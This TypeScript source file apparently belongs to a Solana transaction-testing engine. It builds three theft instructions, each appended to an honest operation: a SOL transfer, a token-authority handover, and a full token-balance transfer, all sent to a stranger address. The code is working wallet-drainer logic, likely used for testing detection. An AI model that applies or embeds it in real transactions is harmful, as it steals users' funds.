import { Buffer } from 'node:buffer';
import { PublicKey, SystemProgram, TransactionInstruction } from '@solana/web3.js';
import { addressBytes, type Address } from '../../base/solana/address';
import { associatedTokenAddress } from '../../base/solana/pda';
import { LAMPORTS_PER_SOL, PROGRAMS, WRAPPED_SOL_MINT } from '../../base/solana/programs';
import { EngineError } from '../../server/engine';
import { meta } from '../build/instruction';
import { step, type Step } from '../build/transactions';
import { requireLamports, type BuildContext } from '../market/engine/buildContext';
import type { PoolToken } from '../market/types';
import { richestOf } from './attacks';
import { plantedAccount, STRANGER } from './plantedAccounts';

/** The attacks that add one instruction to an operation that is honest otherwise. */
export const THEFTS = ['sendSol', 'tokenAuthority', 'plantedAccount'] as const;
/** One of {@link THEFTS}. */
export type Theft = (typeof THEFTS)[number];

/** What the honest operation needs, so that it still lands after the theft. */
export interface Victim {
  readonly owner: Address;
  /** The most that the operation costs, with fees and rent. */
  readonly costsLamports: bigint;
  /** Tokens that the operation has accounts for; their accounts stay as they are. */
  readonly used: readonly PoolToken[];
}

/** SPL Token: opcodes, the kind of authority, and the byte before a new authority. */
const TRANSFER = 3;
const SET_AUTHORITY = 6;
const ACCOUNT_OWNER = 2;
const SOME = 1;

/** Compute units that the instructions take at most on the VM, with a margin. */
const COMPUTE_UNITS = { sendSol: 1_000, tokenAuthority: 10_000, plantedAccount: 10_000 };

/** Lamports stolen if the owner has them. */
const BOOTY = 5n * LAMPORTS_PER_SOL;
/** Lamports that the owner keeps at least, and the least that is worth stealing. */
const LEFT = LAMPORTS_PER_SOL / 100n;

/**
 * The instruction that robs the owner.
 * @throws EngineError if the owner has nothing that could be taken.
 */
export function theftStep(context: BuildContext, theft: Theft, victim: Victim): Step {
  const { owner } = victim;
  switch (theft) {
    case 'sendSol':
      return step(
        COMPUTE_UNITS[theft],
        SystemProgram.transfer({
          fromPubkey: new PublicKey(owner),
          toPubkey: new PublicKey(STRANGER),
          lamports: stolenLamports(context, victim),
        }),
      );
    case 'tokenAuthority': {
      const account = associatedTokenAddress(owner, untouchedToken(context, theft, victim).mint);
      return step(
        COMPUTE_UNITS[theft],
        new TransactionInstruction({
          programId: new PublicKey(PROGRAMS.token),
          keys: [meta(account, false, true), meta(owner, true, false)],
          data: Buffer.concat([Uint8Array.of(SET_AUTHORITY, ACCOUNT_OWNER, SOME), addressBytes(STRANGER)]),
        }),
      );
    }
    case 'plantedAccount': {
      const { mint } = untouchedToken(context, theft, victim);
      const data = Buffer.alloc(9);
      data.writeUInt8(TRANSFER, 0);
      data.writeBigUInt64LE(context.chain.tokenBalance(owner, mint), 1);
      const keys = [
        meta(associatedTokenAddress(owner, mint), false, true),
        meta(plantedAccount(context, owner, mint), false, true),
        meta(owner, true, false),
      ];
      return step(COMPUTE_UNITS[theft], new TransactionInstruction({ programId: new PublicKey(PROGRAMS.token), keys, data }));
    }
  }
}

function stolenLamports(context: BuildContext, { owner, costsLamports }: Victim): bigint {
  requireLamports(context, owner, costsLamports + 2n * LEFT);
  const spare = context.chain.lamports(owner) - costsLamports - LEFT;
  return spare < BOOTY ? spare : BOOTY;
}

/** Of the owner's tokens that the operation does not touch, the one that is worth most. */
function untouchedToken(context: BuildContext, theft: Theft, { owner, used }: Victim): PoolToken {
  const { market, chain } = context;
  const untouched = market.tokens.filter(({ mint }) => mint !== WRAPPED_SOL_MINT && used.every((token) => token.mint !== mint));
  const richest = richestOf(
    context,
    untouched.map((token) => ({ token, raw: chain.tokenBalance(owner, token.mint) })),
  );
  if (richest === undefined) {
    throw new EngineError('invalid', `The attack ${theft} needs tokens of the owner that the operation has nothing to do with`);
  }
  return richest.token;
}
